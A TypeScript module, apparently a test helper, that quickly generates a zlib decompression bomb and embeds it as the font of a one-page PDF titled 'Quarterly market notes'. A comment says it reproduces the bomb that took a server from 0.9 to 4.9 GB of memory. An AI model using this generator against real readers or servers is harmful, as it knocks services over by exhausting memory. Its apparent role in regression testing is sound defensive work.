import { constants, createDeflateRaw, type DeflateRaw } from 'node:zlib';

const MB = 1024 * 1024;
/** Zeros deflated in one piece; a bomb repeats the piece. */
const PIECE_BYTES = 4 * MB;

/**
 * A zlib stream that inflates to `pieces` x 4 MB of zeros, made in milliseconds rather than by
 * deflating gigabytes: 8 MB of zeros are deflated with a sync flush after each 4 MB; the second
 * piece's blocks refer only to the zeros before them (the 32 KB window), so they are valid after
 * any 4 MB of zeros and can be repeated. Ends with an empty final block and the Adler-32.
 */
export async function zerosBomb(pieces: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const output: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => output.push(chunk));
  const first = await flushedPiece(deflate, output);
  const repeated = await flushedPiece(deflate, output);
  deflate.destroy();
  const total = pieces * PIECE_BYTES;
  // Adler-32 of zeros: the low sum stays 1, the high sum adds 1 a byte.
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65_521) << 16) | 1) >>> 0);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    first,
    ...Array.from({ length: pieces - 1 }, () => repeated),
    // An empty fixed-Huffman block marked final.
    Buffer.from([0x03, 0x00]),
    adler,
  ]);
}

/** Deflates 4 MB of zeros up to a sync flush; the bytes written since the last one. */
async function flushedPiece(deflate: DeflateRaw, output: Buffer[]): Promise<Buffer> {
  deflate.write(Buffer.alloc(PIECE_BYTES));
  await new Promise<void>((resolve) => deflate.flush(constants.Z_SYNC_FLUSH, () => resolve()));
  return Buffer.concat(output.splice(0));
}

/**
 * A one-page PDF whose embedded font inflates to `inflatedMb` (a multiple of 4) of zeros: the
 * shape of the decompression bomb that took a server from 0.9 to 4.9 GB of memory. A reader
 * unpacks a font whole before it draws the page's one line of text, so the bomb goes off at once.
 */
export async function makePdfBomb(inflatedMb: number): Promise<Uint8Array> {
  const font = await zerosBomb(Math.ceil(inflatedMb / 4));
  const content = 'BT /F1 12 Tf 72 720 Td (Quarterly market notes) Tj ET';
  const objects: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /TrueType /BaseFont /Notes /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /Notes /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>',
    Buffer.concat([
      Buffer.from(`<< /Length ${font.byteLength} /Filter /FlateDecode >>\nstream\n`),
      font,
      Buffer.from('\nendstream'),
    ]),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]!.byteLength;
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.byteLength;
  };
  objects.forEach((body, index) => {
    offsets.push(length);
    push(Buffer.from(`${index + 1} 0 obj\n`));
    push(typeof body === 'string' ? Buffer.from(body) : body);
    push(Buffer.from('\nendobj\n'));
  });
  const xref = length;
  push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets
        .map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
        .join(
          '',
        )}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}
